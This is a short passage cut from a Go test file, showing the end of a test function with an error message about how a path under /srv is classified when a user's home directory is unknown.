		t.Errorf("without limend's home known, a path under /srv is a control: %s", why)
	}
}
